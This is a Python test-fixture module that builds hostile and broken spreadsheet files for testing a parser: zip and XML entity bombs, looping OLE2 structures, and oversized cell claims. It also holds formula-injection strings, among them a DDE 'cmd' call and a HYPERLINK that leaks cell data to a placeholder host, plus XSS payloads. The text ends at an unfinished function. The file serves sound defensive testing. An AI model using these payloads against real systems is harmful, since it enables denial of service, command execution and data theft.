"""Hostile and broken spreadsheet inputs, each built in memory (no binary blobs in the repo).

Every builder returns ``(filename, bytes)``. All table content is invented. ``CORPUS`` maps a
short name to each builder, for tests that walk the whole corpus. Builders for big inputs
(zip bomb, huge string) take the inflated size as a parameter and write their deflate stream
from one repeated, fully flushed block, so a 1 GB member costs about a second to build.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from typing import Any

HEADER = ["Titel", "Beschreibung", "Quartier", "Träger", "Zielgruppe", "Beginn", "Stunden"]
ROWS = [  # invented
    ["Erzählcafé (erfunden)", "Offener Treff für Ältere", "Nordstadt", "Diakonie Musterstadt",
     "Ältere Menschen", "2024-03-01", 2],
    ["Stadtteilkonferenz (erfunden)", "Träger planen gemeinsam", "Südviertel", "Kirchengemeinde St. Beispiel",
     "Fachkräfte", "2024-05-14", 3],
    ["Sozialberatung (erfunden)", "Einzelberatung zu Anträgen", "Altstadt", "Diakonie Musterstadt",
     "alle", "2024-09-02", 1.5],
]

Built = tuple[str, bytes]
SHEET1 = "xl/worksheets/sheet1.xml"  # where xlsxwriter puts the first sheet


# --- plain writers ---------------------------------------------------------------------------

def xlsx(rows: Sequence[Sequence[Any]], sheet: str = "Aktivitäten", *,
         merge: Sequence[tuple[str, str]] = ()) -> bytes:
    """An xlsx (xlsxwriter, shared strings) with text written as text, never as a formula."""
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"strings_to_formulas": False, "strings_to_urls": False,
                                     "strings_to_numbers": False})
    ws = book.add_worksheet(sheet)
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                ws.write(r, c, value)
    for ref, text in merge:
        ws.merge_range(ref, text)
    book.close()
    return buf.getvalue()


def csv_text(rows: Sequence[Sequence[Any]], sep: str = ";") -> str:
    return "\r\n".join(sep.join("" if v is None else str(v) for v in row) for row in rows) + "\r\n"


def rewrite(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """A copy of zip ``data`` with one member's bytes replaced by ``change(old)``."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            dst.writestr(info.filename, change(content) if info.filename == member else content)
    return out.getvalue()


def _members(data: bytes) -> dict[str, bytes]:
    src = zipfile.ZipFile(io.BytesIO(data))
    return {name: src.read(name) for name in src.namelist()}


def raw_zip(members: Sequence[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from ``(name, raw deflate stream, crc32, inflated size)`` entries (no zip64)."""
    out = io.BytesIO()
    central = []
    for name, raw, crc, size in members:
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size,
                              len(encoded), 0) + encoded)
        out.write(raw)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw),
                                   size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start,
                          start, 0))
    return out.getvalue()


def deflated(content: bytes) -> tuple[bytes, int, int]:
    """``(raw deflate stream, crc32, size)`` of ``content``."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)


def repeated(prefix: bytes, unit: bytes, count: int, suffix: bytes) -> tuple[bytes, int, int]:
    """``deflated(prefix + unit * count + suffix)`` without holding the inflated text.

    Each unit is compressed once after a full flush (which resets the dictionary), so every
    further unit is the same compressed block.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    tail = packer.compress(suffix) + packer.flush()
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    return head + block * count + tail, crc, len(prefix) + len(unit) * count + len(suffix)


OLE_END, OLE_FREE, OLE_FATSECT, OLE_DIFSECT, OLE_NONE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFC, 0xFFFFFFFF


def ole_entry(name: str, kind: int, *, left: int = OLE_NONE, right: int = OLE_NONE, child: int = OLE_NONE,
              start: int = OLE_END, size: int = 0) -> bytes:
    """One 128-byte directory entry of an OLE2 file (kind 1 storage, 2 stream, 5 root, 0 unused)."""
    encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
    return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", left, right, child) + bytes(16) + bytes(4) + bytes(16)
            + struct.pack("<IQ", start, size))


def ole_header(*, n_fat: int = 1, first_dir: int = 1, first_mini: int = OLE_END, n_mini: int = 0,
               first_difat: int = OLE_END, n_difat: int = 0, fat_sectors: Sequence[int] = (0,)) -> bytes:
    """The 512-byte header of an OLE2 file (version 3, 512-byte sectors) with the counts given."""
    return (bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
            + bytes(6) + struct.pack("<IIIIIIIII", 0, n_fat, first_dir, 0, 4096, first_mini, n_mini,
                                     first_difat, n_difat)
            + struct.pack("<109I", *fat_sectors, *([OLE_FREE] * (109 - len(fat_sectors)))))


def ole_sectors(values: Sequence[int]) -> bytes:
    """Sector numbers (a FAT, a MiniFAT or a DIFAT) packed into whole 512-byte sectors."""
    count = max(1, -(-len(values) // 128)) * 128
    return struct.pack(f"<{count}I", *values, *([OLE_FREE] * (count - len(values))))


def cfb(streams: dict[str, bytes], *, mini: bool = False) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding up to three ``streams``.

    By default streams are padded to 4096 bytes (regular sectors, as Excel does for "Workbook");
    with ``mini=True`` they stay short and live in the mini stream (64-byte sectors).
    """
    assert 1 <= len(streams) <= 3
    size = 512
    names = list(streams)
    fat = [OLE_FATSECT, OLE_END]  # sector 0: the FAT, sector 1: the directory

    def allocate(length: int) -> int:
        count = max(1, -(-length // size))
        first = len(fat)
        fat.extend([*range(first + 1, first + count), OLE_END])
        return first

    def pad(block: bytes, unit: int) -> bytes:
        return block.ljust(max(unit, -(-len(block) // unit) * unit), b"\0")

    if mini:
        assert all(len(content) < 4096 for content in streams.values())
        container, mini_fat, starts = b"", [], []
        for content in streams.values():
            first = len(mini_fat)
            count = max(1, -(-len(content) // 64))
            mini_fat.extend([*range(first + 1, first + count), OLE_END])
            starts.append(first)
            container += pad(content, 64)
        mini_fat_sector = allocate(size)
        root_start, root_size = allocate(len(container)), len(container)
        sectors = [ole_sectors(mini_fat), pad(container, size)]
        lengths = [len(content) for content in streams.values()]
    else:
        bodies = [content.ljust(4096, b"\0") for content in streams.values()]
        starts = [allocate(len(body)) for body in bodies]
        mini_fat_sector, root_start, root_size = OLE_END, OLE_END, 0
        sectors = [pad(body, size) for body in bodies]
        lengths = [len(body) for body in bodies]
    assert len(fat) <= size // 4

    directory = ole_entry("Root Entry", 5, child=1, start=root_start, size=root_size)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else OLE_NONE
        directory += ole_entry(name, 2, right=right, start=starts[i], size=lengths[i])
    for _ in range(len(names) + 1, 4):  # unused entries
        directory += ole_entry("", 0, start=0)
    header = ole_header(first_mini=mini_fat_sector, n_mini=1 if mini else 0)
    return header + ole_sectors(fat) + directory + b"".join(sectors)


# --- crafted OLE2 files: claims and loops that a reader must not follow without end -------------

def _ole(header: bytes, sectors: Sequence[bytes]) -> bytes:
    return header + b"".join(sector.ljust(512, b"\0") for sector in sectors)


def _ole_directory(*entries: bytes) -> bytes:
    return b"".join(entries).ljust(512, b"\0")


_OLE_ROOT = ole_entry("Root Entry", 5, child=1)
_OLE_EMPTY_BOOK = ole_entry("Workbook", 2)


def ole_difat_loop() -> Built:
    """2 KB claiming four billion FAT sectors: a DIFAT sector that lists FAT sector 0 127 times and
    points to itself as the next one (olefile 0.47 follows it for as long as the header says)."""
    n_fat = 0xFFFFFF00
    n_difat = (n_fat - 109 + 126) // 127
    difat = struct.pack("<128I", *([0] * 127), 2)
    return "inventar.xls", _ole(ole_header(n_fat=n_fat, first_difat=2, n_difat=n_difat),
                                [ole_sectors([OLE_FATSECT, OLE_END, OLE_DIFSECT]),
                                 _ole_directory(_OLE_ROOT, _OLE_EMPTY_BOOK), difat])


def ole_difat_chain(count: int = 30) -> Built:
    """``count`` distinct DIFAT sectors, each listing FAT sector 0 127 times; the header's counts
    agree with them, so only the file size betrays the claim (16 KB for 30: 3,919 FAT sectors)."""
    n_fat = 109 + 127 * count
    difat = [struct.pack("<128I", *([0] * 127), 3 + i if i + 1 < count else OLE_END) for i in range(count)]
    fat = ole_sectors([OLE_FATSECT, OLE_END] + [OLE_DIFSECT] * count)[:512]
    return "inventar.xls", _ole(ole_header(n_fat=n_fat, first_difat=2, n_difat=count, fat_sectors=(0,) * 109),
                                [fat, _ole_directory(_OLE_ROOT, _OLE_EMPTY_BOOK), *difat])


def ole_mini_fat_claim() -> Built:
    """A MiniFAT of four billion sectors claimed, its one sector chained to itself."""
    root = ole_entry("Root Entry", 5, child=1, size=64)
    book = ole_entry("Workbook", 2, start=0, size=100)
    return "inventar.xls", _ole(ole_header(first_mini=2, n_mini=0xFFFFFFFF),
                                [ole_sectors([OLE_FATSECT, OLE_END, 2]), _ole_directory(root, book), bytes(512)])


def ole_stream_loop() -> Built:
    """A "Workbook" stream of 4 GB claimed, its one sector chained to itself."""
    book = ole_entry("Workbook", 2, start=2, size=0xFFFFFFFF)
    return "inventar.xls", _ole(ole_header(), [ole_sectors([OLE_FATSECT, OLE_END, 2]),
                                               _ole_directory(_OLE_ROOT, book), b"\x09\x08" * 256])


def ole_directory_loop() -> Built:
    """The directory's sector chained to itself."""
    return "inventar.xls", _ole(ole_header(), [ole_sectors([OLE_FATSECT, 1]),
                                               _ole_directory(_OLE_ROOT, _OLE_EMPTY_BOOK)])


def ole_directory_cycle() -> Built:
    """A storage whose child is the stream that names it as its sibling: a cycle in the tree."""
    book = ole_entry("Workbook", 2, right=2)
    storage = ole_entry("Ablage", 1, child=1, left=1)
    return "inventar.xls", _ole(ole_header(), [ole_sectors([OLE_FATSECT, OLE_END]),
                                               _ole_directory(_OLE_ROOT, book, storage)])


def _ole_with_directory(entries: list[bytes]) -> bytes:
    """An OLE2 file whose directory holds ``entries`` (over as many sectors as needed)."""
    directory = b"".join(entries)
    directory = directory.ljust(-(-len(directory) // 512) * 512, b"\0")
    n_dir = len(directory) // 512
    n_fat = -(-(n_dir + 2) // 127)
    assert n_fat <= 109
    fat = [OLE_FATSECT] * n_fat + [*range(n_fat + 1, n_fat + n_dir), OLE_END]
    return ole_header(n_fat=n_fat, first_dir=n_fat, fat_sectors=tuple(range(n_fat))) + ole_sectors(fat) + directory


def ole_deep_directory(depth: int = 3000) -> Built:
    """``depth`` streams, each the right sibling of the one before: a tree as deep as it is long."""
    entries = [_OLE_ROOT] + [ole_entry(f"S{i}", 2, right=i + 2 if i + 1 < depth else OLE_NONE)
                             for i in range(depth)]
    return "inventar.xls", _ole_with_directory(entries)


def ole_wide_directory(count: int = 13_000) -> Built:
    """``count`` streams in a balanced tree (1.7 MB for 13,000): olefile 0.47 checks every stream
    against all earlier ones, so this costs time with the square of ``count``."""
    children: dict[int, tuple[int, int]] = {}

    def subtree(low: int, high: int) -> int:
        if low > high:
            return OLE_NONE
        middle = (low + high) // 2
        children[middle] = (subtree(low, middle - 1), subtree(middle + 1, high))
        return middle

    root = ole_entry("Root Entry", 5, child=subtree(1, count))
    entries = [root] + [ole_entry(f"S{i}", 2, left=children[i][0], right=children[i][1], start=1_000_000 + i,
                                  size=4096) for i in range(1, count + 1)]
    return "inventar.xls", _ole_with_directory(entries)


#: The crafted OLE2 files by name (tests/test_xls.py, bench/ole_hostile.py): each is refused
#: quickly as damaged by the reader child, none reaches calamine.
OLE_CORPUS: dict[str, Callable[[], Built]] = {
    "difat_schleife": ole_difat_loop,
    "difat_kette": ole_difat_chain,
    "minifat_anspruch": ole_mini_fat_claim,
    "strom_schleife": ole_stream_loop,
    "verzeichnis_schleife": ole_directory_loop,
    "verzeichnis_zyklus": ole_directory_cycle,
    "verzeichnis_tief": ole_deep_directory,
    "verzeichnis_breit": ole_wide_directory,
}


def damages(size: int):
    """A hypothesis strategy of damage to a file of about ``size`` bytes: (cut, [(position, byte), …])."""
    from hypothesis import strategies as st

    return st.tuples(st.integers(min_value=1, max_value=size), st.lists(
        st.tuples(st.integers(min_value=0, max_value=size), st.integers(min_value=0, max_value=255)), max_size=8))


def damaged(data: bytes, damage: tuple[int, list[tuple[int, int]]]) -> bytes:
    """``data`` cut after ``damage[0]`` bytes, with the bytes at the positions given replaced."""
    cut, flips = damage
    out = bytearray(data[:cut])
    for position, value in flips:
        if position < len(out):
            out[position] = value
    return bytes(out)


# --- the corpus ------------------------------------------------------------------------------

def good_xlsx() -> Built:
    """A small, valid inventory (for comparisons)."""
    return "inventar.xlsx", xlsx([HEADER, *ROWS])


def empty_file() -> Built:
    return "inventar.xlsx", b""


def pdf_as_xlsx() -> Built:
    body = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    return "inventar.xlsx", body


def png_as_xlsx() -> Built:
    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    pixels = zlib.compress(b"\x00\xff\xff\xff")
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
    return "inventar.xlsx", png


def docx_as_xlsx() -> Built:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml",
                    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
                    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="urn:x"/>')
    return "inventar.xlsx", out.getvalue()


def text_as_xlsx() -> Built:
    return "inventar.xlsx", b"Notizen zur Stadtteilkonferenz (erfunden)\nkeine Tabelle\n"


def csv_as_xlsx() -> Built:
    return "inventar.xlsx", csv_text([HEADER, *ROWS]).encode("utf-8")


def html_as_xls() -> Built:
    html = "<html><body><table><tr><td>Titel</td><td>Quartier</td></tr></table></body></html>"
    return "export.xls", html.encode()


def truncated_xlsx() -> Built:
    data = xlsx([HEADER, *ROWS])
    return "inventar.xlsx", data[:len(data) // 2]


def encrypted_xlsx() -> Built:
    """What Excel writes for "Mit Kennwort verschlüsseln": an OLE2 file with these two streams."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    package = struct.pack("<Q", 6000) + bytes(range(256)) * 20
    return "inventar.xlsx", cfb({"EncryptionInfo": info, "EncryptedPackage": package})


def word_doc_as_xls() -> Built:
    return "inventar.xls", cfb({"WordDocument": b"\xec\xa5" + bytes(100)})


def fake_xls() -> Built:
    """An OLE2 file whose "Workbook" stream claims 200 bytes in a mini stream that does not exist.

    The guard sees an xls; calamine 0.9 panics on it (index out of bounds) — a real Rust panic.
    """
    data = bytearray(cfb({"Workbook": b"\x00\x01" * 100}))
    entry = 512 + 512 + 128  # the directory sector follows the FAT; entry 0 is the root
    data[entry + 120:entry + 128] = struct.pack("<Q", 200)
    return "inventar.xls", bytes(data)


def entity_bomb_xlsx(levels: int = 9) -> Built:
    """Billion laughs in the shared strings table (the sheet shows string 0)."""
    entities = ['<!ENTITY e0 "lachen">'] + [
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels + 1)]
    sst = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [' + "".join(entities)
           + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
           f'uniqueCount="1"><si><t>&e{levels};</t></si></sst>').encode()
    data = xlsx([["Titel"], ["x"]])
    return "inventar.xlsx", rewrite(data, "xl/sharedStrings.xml", lambda _old: sst)


def zip_bomb_xlsx(size: int = 1 << 30) -> Built:
    """A valid xlsx whose sheet part inflates to ``size`` bytes (blanks between rows): ~1 MB per GB."""
    data = xlsx([HEADER, *ROWS])
    members = _members(data)
    sheet = members[SHEET1]
    cut = sheet.index(b"</sheetData>")
    unit = b" " * (1 << 20)
    entries = []
    for name, content in members.items():
        if name == SHEET1:
            raw, crc, length = repeated(sheet[:cut], unit, max(1, size // len(unit)), sheet[cut:])
            entries.append((name, raw, crc, length))
        else:
            entries.append((name, *deflated(content)))
    return "inventar.xlsx", raw_zip(entries)


def huge_string_xlsx(size: int = 600 << 20) -> Built:
    """One shared string of ``size`` letters: the parser must hold it whole (memory, not a claim)."""
    data = xlsx([["Titel"], ["x"]])
    members = _members(data)
    entries = []
    for name, content in members.items():
        if name == "xl/sharedStrings.xml":
            head = content[:content.index(b"<si>")] + b"<si><t>"
            head = re.sub(rb'count="\d+" uniqueCount="\d+"', b'count="2" uniqueCount="2"', head)
            unit = b"a" * (1 << 20)
            raw, crc, length = repeated(head, unit, max(1, size // len(unit)),
                                        b"</t></si><si><t>x</t></si></sst>")
            entries.append((name, raw, crc, length))
        else:
            entries.append((name, *deflated(content)))
    return "inventar.xlsx", raw_zip(entries)


def _add_cell(data: bytes, row: int, ref: str, cell: str = "<v>1</v>") -> bytes:
    addition = f'<row r="{row}"><c r="{ref}">{cell}</c></row></sheetData>'.encode()
    return rewrite(data, SHEET1, lambda old: old.replace(b"</sheetData>", addition))


def far_cell_xlsx() -> Built:
    """A sheet with a value claimed at XFD1048576 (calamine tries to allocate 512 GiB)."""
    return "inventar.xlsx", _add_cell(xlsx([HEADER, *ROWS]), 1048576, "XFD1048576")


def far_row_xlsx() -> Built:
    """A stray value in Excel's last row, column A (a real-world mistake, 1 million empty rows)."""
    return "inventar.xlsx", _add_cell(xlsx([HEADER, *ROWS]), 1048576, "A1048576")


def far_format_only_xlsx() -> Built:
    """Formatting only at XFD1048576 (no value): harmless, must be accepted."""
    data = xlsx([HEADER, *ROWS])
    addition = b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    return "inventar.xlsx", rewrite(data, SHEET1, lambda old: old.replace(b"</sheetData>", addition))


def huge_shared_strings_xlsx(claim: int = 4_000_000_000) -> Built:
    """The shared strings table claims ``claim`` entries but holds a handful."""
    data = xlsx([HEADER, *ROWS])
    return "inventar.xlsx", rewrite(data, "xl/sharedStrings.xml", lambda old: re.sub(
        rb'uniqueCount="\d+"', f'uniqueCount="{claim}"'.encode(), old))


def error_cells_xlsx() -> Built:
    """Cached error results as Excel stores them (t="e"), one per error code."""
    import xlsxwriter

    codes = ["#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"]
    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf)
    ws = book.add_worksheet("Aktivitäten")
    ws.write_row(0, 0, ["Titel", "Quartier", "Stunden"])
    for r, code in enumerate(codes, start=1):
        ws.write_string(r, 0, f"Angebot {r} (erfunden)")
        ws.write_string(r, 1, "Nordstadt")
        ws.write_formula(r, 2, "=1/0", None, code)
    book.close()
    return "fehlerwerte.xlsx", buf.getvalue()


ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"')


def ods(table_xml: str, sheet: str = "Aktivitäten", *, encrypted: bool = False) -> bytes:
    """A minimal OpenDocument spreadsheet whose one table holds ``table_xml`` (rows); ``encrypted``:
    its manifest declares content.xml encrypted, as LibreOffice's "Mit Kennwort speichern" does."""
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NS}><office:body>'
               f'<office:spreadsheet><table:table table:name="{sheet}">{table_xml}</table:table>'
               '</office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type='
                '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
                '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    if encrypted:
        manifest = manifest.replace(
            'media-type="text/xml"/>',
            'media-type="text/xml" manifest:size="900"><manifest:encryption-data manifest:checksum-type="SHA1/1K" '
            'manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/'
            'xmlenc#aes256-cbc" manifest:initialisation-vector="AAAA"/><manifest:key-derivation manifest:key-'
            'derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="100000" manifest:salt='
            '"AAAA"/></manifest:encryption-data></manifest:file-entry>')
        content = bytes(range(256)).decode("latin-1") * 4  # ciphertext: not XML
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def encrypted_ods() -> Built:
    """An ODS saved with a password (manifest with encryption-data, content.xml ciphertext)."""
    return "kennwort.ods", ods("", encrypted=True)


def ods_cell_limit() -> Built:
    """An ODS of 160 million value cells in 1 KB (one row of 16,000 cells repeated 10,000 times):
    beyond what calamine reads at once ("Cell limit exceeded", reported as "Cannot detect file format")."""
    title = ('<table:table-row><table:table-cell office:value-type="string"><text:p>Titel</text:p>'
             '</table:table-cell></table:table-row>')
    many = ('<table:table-row table:number-rows-repeated="10000"><table:table-cell table:number-columns-repeated='
            '"16000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
            '</table:table-row>')
    return "riesig.ods", ods(title + many)


def ods_error_cells_ods() -> Built:
    """Error results as a German LibreOffice saves them (text of the error in the cell, value empty).

    Expected (row, column) → text, 0-based: (1, 3) #DIV/0!, (1, 4) #NV, (2, 3) #NV (after a merged,
    covered cell), (3, 3) and (4, 3) #WERT! (one row element repeated twice).
    """
    def text(value: str, repeat: int = 1) -> str:
        rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
        return f'<table:table-cell office:value-type="string"{rep}><text:p>{value}</text:p></table:table-cell>'

    def error(value: str) -> str:
        return ('<table:table-cell table:formula="of:=1/0" office:value-type="string" office:string-value="" '
                f'calcext:value-type="error"><text:p>{value}</text:p></table:table-cell>')

    def row(cells: str, repeat: int = 1) -> str:
        rep = f' table:number-rows-repeated="{repeat}"' if repeat > 1 else ""
        return f"<table:table-row{rep}>{cells}</table:table-row>"

    table = (row(text("Titel") + text("Quartier") + text("Träger") + text("Stunden") + text("Kosten"))
             + row(text("Treff (erfunden)") + text("x", 2) + error("#DIV/0!") + error("#NV"))
             + row(text("Café (erfunden)") + '<table:table-cell office:value-type="string" '
                   'table:number-columns-spanned="2"><text:p>y'
                   '</text:p></table:table-cell><table:covered-table-cell/>' + error("#NV"))
             + row(text("Beratung (erfunden)") + text("z", 2) + error("#WERT!"), repeat=2))
    return "fehlerwerte.ods", ods(table)


XLS_ERRORS = {7: "#DIV/0!", 0x2A: "#N/A", 0x0F: "#VALUE!", 0x17: "#REF!", 0x1D: "#NAME?", 0x24: "#NUM!",
              0x00: "#NULL!"}


def xls_error_cells() -> Built:
    """Excel 97-2003: error cells (BOOLERR) in column B, rows 2-8, and a formula in B9 whose cached
    result is #DIV/0! (xlwt writes none, so the record is patched)."""
    import xlwt

    book = xlwt.Workbook()
    ws = book.add_sheet("Tabelle1")
    ws.write(0, 0, "Titel")
    ws.write(0, 1, "Stunden")
    for row, code in enumerate(XLS_ERRORS, start=1):
        ws.write(row, 0, f"Angebot {row} (erfunden)")
        ws.row(row).set_cell_error(1, code)
    ws.write(8, 0, "Formel (erfunden)")
    ws.write(8, 1, xlwt.Formula("1/0"))
    buf = io.BytesIO()
    book.save(buf)
    return "fehlerwerte.xls", with_formula_errors(buf.getvalue(), [7])


def with_formula_errors(data: bytes, codes: Sequence[int]) -> bytes:
    """An xls from xlwt whose FORMULA records get cached error results: ``codes`` in turn
    (xlwt writes no cached result; Excel stores the last one it computed)."""
    import olefile

    out = bytearray(data)
    stream = olefile.OleFileIO(io.BytesIO(data)).openstream("Workbook").read()
    offset, patched = 0, 0
    while offset + 4 <= len(stream):
        kind, length = struct.unpack_from("<HH", stream, offset)
        if kind == 0x0006:  # FORMULA
            at = 512 + offset  # xlwt writes the stream contiguously from the first sector
            assert out[at:at + 16] == stream[offset:offset + 16]
            code = codes[patched % len(codes)]
            out[at + 10:at + 18] = bytes([2, 0, code, 0, 0, 0, 0xFF, 0xFF])  # cached result: error
            patched += 1
        offset += 4 + length
    assert patched, "no formula"
    return bytes(out)


def formula_without_value_xlsx() -> Built:
    """Formulas that were never calculated (openpyxl writes no result): C2, C3."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Aktivitäten"
    ws.append(["Titel", "Stunden", "Summe"])
    ws.append(["Angebot A (erfunden)", 2, "=B2*2"])
    ws.append(["Angebot B (erfunden)", 3, "=B3*2"])
    buf = io.BytesIO()
    book.save(buf)
    return "formeln.xlsx", buf.getvalue()


def header_only_xlsx() -> Built:
    return "inventar.xlsx", xlsx([HEADER])


def missing_quartier_xlsx() -> Built:
    keep = [i for i, h in enumerate(HEADER) if h != "Quartier"]
    return "inventar.xlsx", xlsx([[row[i] for i in keep] for row in [HEADER, *ROWS]])


INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Details")', "+cmd|' /C calc'!A0", "-2+3",
              "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def injection_xlsx() -> Built:
    """Text cells that a spreadsheet would run as formulas if written back unescaped."""
    rows = [HEADER] + [[text, "Beschreibung (erfunden)", "Nordstadt", text, "alle", "2024-01-10", 1]
                       for text in INJECTIONS]
    return "inventar.xlsx", xlsx(rows)


def injection_csv() -> Built:
    rows = [HEADER] + [[f'"{t.replace(chr(34), chr(34) * 2)}"', "x", "Nordstadt", "y", "alle", "2024-01-10", 1]
                       for t in INJECTIONS]
    return "inventar.csv", csv_text(rows).encode("utf-8")


SCRIPT = '<script>alert("erfunden")</script><img src=x onerror=alert(1)>'


def script_xlsx() -> Built:
    rows = [HEADER, [SCRIPT, SCRIPT, "Nordstadt", "<b>Träger</b>", "alle", "2024-02-01", 1]]
    return "inventar.xlsx", xlsx(rows)


def utf16_csv() -> Built:
    """Excel's "Unicode-Text": UTF-16 with BOM, tab-separated."""
    return "inventar.csv", csv_text([HEADER, *ROWS], sep="\t").encode("utf-16")


def cp1252_csv() -> Built:
    return "inventar.csv", csv_text([HEADER, *ROWS]).encode("cp1252")


def ragged_csv() -> Built:
    """Rows with fewer and more fields than the header."""
    rows = [HEADER, ROWS[0][:3], [*ROWS[1], "überzählig", "noch eins"], ROWS[2]]
    return "inventar.csv", csv_text(rows).encode("utf-8")


def nul_csv() -> Built:
    """A CSV with two stray NUL bytes in its second data row."""
    text = csv_text([HEADER, *ROWS]).encode("utf-8")
    lines = text.split(b"\r\n")
    lines[2] = lines[2][:5] + b"\x00" + lines[2][5:] + b"\x00"
    return "inventar.csv", b"\r\n".join(lines)


def binary_as_csv() -> Built:
    """Unknown binary data (many NUL bytes) under a .csv name."""
    return "inventar.csv", bytes(range(256)) * 64


def duplicate_headers_xlsx() -> Built:
    header = ["Titel", "Quartier", "Stunden", "Stunden", "Quartier"]
    return "inventar.xlsx", xlsx([header, ["Treff (erfunden)", "Nordstadt", 1, 2, "Südviertel"]])


def merged_header_xlsx() -> Built:
    """A two-row header: a merged group title above the real headers."""
    rows = [[None] * len(HEADER), HEADER, *ROWS]
    return "inventar.xlsx", xlsx(rows, merge=[("A1:C1", "Angebot"), ("D1:G1", "Rahmen")])


def utf16le_csv() -> Built:
    """UTF-16 little-endian without a byte order mark, tab-separated (some export tools write this)."""
    return "inventar.csv", csv_text([HEADER, *ROWS], sep="\t").encode("utf-16-le")


def unclosed_quote_csv() -> Built:
    """A quote opened at the start of line 3 and never closed: read naively, the rest of the
    file (lines 3-5, two real activities among them) becomes one single cell."""
    text = (csv_text([HEADER, ROWS[0]]) + '"Offenes Zitat (erfunden);x;Nordstadt\r\n'
            + csv_text(ROWS[1:]))
    return "inventar.csv", text.encode("utf-8")


def long_cell_csv(length: int = 200_000) -> Built:
    """One CSV cell of ``length`` characters (Excel allows 32,767 per cell)."""
    rows = [HEADER, ["A" * length, *ROWS[0][1:]], ROWS[1]]
    return "inventar.csv", csv_text(rows).encode("utf-8")


def huge_cell_csv() -> Built:
